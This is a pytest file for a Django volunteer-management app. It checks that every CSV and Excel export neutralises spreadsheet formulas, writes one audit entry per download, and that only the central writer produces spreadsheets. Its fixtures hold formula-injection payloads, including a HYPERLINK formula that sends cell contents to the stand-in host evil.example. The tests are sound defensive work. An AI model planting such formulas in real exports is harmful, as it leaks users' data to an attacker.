"""Every CSV or Excel file goes through the one export writer (core/exports.py): no cell of any export,
header or body, can start a spreadsheet formula, and every download leaves one audit entry.

The exports are found by walking every GET URL of the access tables as an admin and keeping the answers that
are spreadsheets, so a new export is checked without being listed here; a source check fails when code outside
the writer writes CSV or a workbook itself."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from auditlog.models import LogEntry
from django.conf import settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from core.exports import FORMULA_PREFIXES
from members.models import Role
from members.services import payment_record
from tests.access import FORBIDDEN, LOGIN, NOT_FOUND
from tests.conftest import log_in
from tests.factories import AssignmentFactory, CourseFactory, LineFactory, MemberFactory, ShiftFactory
from tests.test_access_table import ACCESS, _url, build_world
from timelog.models import TimeKind
from trainings.models import TrainingRecord

pytestmark = pytest.mark.django_db

FORMULA_COURSE = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
FORMULA_FIRST, FORMULA_LAST = "@SUM(A1:A9)", "+46-1"
FORMULA_KIND = "=Förebyggande"  # a kind of volunteer time: the reports' rows name kinds, never people
# The one export that is comma-separated (its tests and users expect it); the others use semicolons.
DELIMITERS = {"shifts:statistics_csv": ","}
SPREADSHEET_TYPES = ("text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")


@pytest.fixture
def world():
    """The access tables' world, plus a volunteer and a course whose names are formulas: she has paid, has
    the course and worked a shift this year, so she is in every export."""
    world = build_world()
    organisation = world.organisation
    member = MemberFactory(
        organisation=organisation, role=Role.VOLUNTEER, first_name=FORMULA_FIRST, last_name=FORMULA_LAST
    )
    today = timezone.localdate(timezone=organisation.zone)
    payment_record(member=member, year=today.year, amount=Decimal("200"), paid_on=today)
    course = CourseFactory(organisation=organisation, name=FORMULA_COURSE)
    TrainingRecord(member=member, course=course, completed_on=date(today.year, 1, 1)).save()
    line = LineFactory(organisation=organisation, name="-Linjen")
    TimeKind.objects.create(organisation=organisation, name=FORMULA_KIND)
    AssignmentFactory(
        shift=ShiftFactory(line=line, starts_at=timezone.now() - timedelta(hours=4), hours=1), member=member
    )
    return world


def _rows(name: str, response) -> list[list[str]]:
    if response["Content-Type"].startswith("text/csv"):
        assert response.content.startswith(b"\xef\xbb\xbf"), f"{name}: no BOM, Excel would not read UTF-8"
        text = response.content.decode("utf-8-sig")
        return [list(row) for row in csv.reader(io.StringIO(text), delimiter=DELIMITERS.get(name, ";"))]
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [["" if cell is None else str(cell) for cell in row] for row in sheet.iter_rows(values_only=True)]


def _exports(world, client) -> dict[str, list[list[str]]]:
    """Every spreadsheet an admin can download, as rows of text cells; each download's audit entries."""
    log_in(client, world.admin)
    found = {}
    for name, rule in sorted(ACCESS.items()):
        if rule.method != "get" or rule.admin in (LOGIN, FORBIDDEN, NOT_FOUND):
            continue
        entries = LogEntry.objects.filter(action=LogEntry.Action.ACCESS).count()
        response = client.get(_url(name, rule, world))
        if not response["Content-Type"].startswith(SPREADSHEET_TYPES):
            continue
        assert response.status_code == 200, name
        assert response["Content-Disposition"].startswith("attachment;"), name
        assert LogEntry.objects.filter(action=LogEntry.Action.ACCESS).count() == entries + 1, (
            f"{name}: an export must leave exactly one audit entry"
        )
        entry = LogEntry.objects.filter(action=LogEntry.Action.ACCESS).latest("pk")
        assert entry.actor == world.admin.user and entry.additional_data["export"], name
        found[name] = _rows(name, response)
    return found


def test_no_cell_of_any_export_starts_a_formula(world, client):
    exports = _exports(world, client)
    # Not vacuous: the member list (CSV and Excel), annual meeting list, training matrix, shift statistics.
    assert len(exports) >= 5, sorted(exports)
    live = []
    for name, rows in exports.items():
        assert len(rows) >= 2 and len(rows[0]) >= 2, f"{name}: header and rows expected (delimiter? {DELIMITERS})"
        live += [
            f"{name} line {number}: {cell!r}"
            for number, row in enumerate(rows, 1)
            for cell in row
            if cell.startswith(FORMULA_PREFIXES)
        ]
    assert not live, live


def test_the_formula_names_reach_the_exports_as_text(world, client):
    """The check above is not vacuous: her name is in every export of people (the reports hold no names, but a
    kind's) and the course name is a matrix header, each with the apostrophe that makes it text."""
    exports = _exports(world, client)
    for name, rows in exports.items():
        cells = {cell for row in rows for cell in row}
        if name.startswith("reports:"):
            assert "'" + FORMULA_KIND in cells, name
            continue
        assert "'" + FORMULA_FIRST in cells or f"'{FORMULA_FIRST} {FORMULA_LAST}" in cells, name
    assert "'" + FORMULA_COURSE in exports["trainings:matrix_csv"][0]


def test_the_matrix_header_neutralises_a_course_name(world, client):
    log_in(client, world.admin)
    response = client.get(reverse("trainings:matrix_csv", kwargs={"organisation": world.organisation.slug}))
    header = next(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert "'" + FORMULA_COURSE in header and FORMULA_COURSE not in header


def test_a_control_character_in_a_name_does_not_break_the_workbook(client, organisation, admin_member):
    """A workbook cannot hold control characters (openpyxl refuses them): the writer leaves them out."""
    MemberFactory(organisation=organisation, first_name="Anna\x01\x1b", last_name="=Berg\x07")
    log_in(client, admin_member)
    response = client.get(reverse("members:export_members_xlsx", kwargs={"organisation": organisation.slug}))
    assert response.status_code == 200
    cells = {cell for row in _rows("members:export_members_xlsx", response) for cell in row}
    assert {"Anna", "'=Berg"} <= cells


# Writing CSV or a workbook: csv.writer/DictWriter, a CSV or XLSX content type, tablib/openpyxl output.
SPREADSHEET_WRITING = re.compile(
    r"csv\.(writer|DictWriter)\b|text/csv|spreadsheetml\.sheet\"|\.export\(\s*[\"'](csv|xlsx|xls|tsv|ods)"
    r"|\bWorkbook\(|xlsxwriter"
)


def _source_files():
    base = Path(settings.BASE_DIR)
    apps = [path.parent for path in base.glob("*/apps.py")] + [base / "config"]
    for app in apps:
        for path in app.rglob("*.py"):
            if "migrations" not in path.parts:
                yield path


def test_only_the_export_writer_writes_spreadsheets():
    writer = Path(settings.BASE_DIR) / "core" / "exports.py"
    sources = list(_source_files())
    assert writer in sources and len(sources) > 40  # the scan sees the apps
    offenders = [
        f"{path.relative_to(settings.BASE_DIR)}:{number}: {line.strip()}"
        for path in sources
        if path != writer
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if SPREADSHEET_WRITING.search(line)
    ]
    assert not offenders, "Write exports with core.exports.export_response:\n" + "\n".join(offenders)


def test_the_source_check_would_see_a_csv_writer():
    assert SPREADSHEET_WRITING.search("    writer = csv.writer(response, delimiter=';')")
    assert SPREADSHEET_WRITING.search('response = HttpResponse(content_type="text/csv; charset=utf-8")')
    assert SPREADSHEET_WRITING.search('return dataset.export("xlsx")')
    assert not SPREADSHEET_WRITING.search("for values in csv.reader(io.StringIO(text), delimiter=delimiter):")
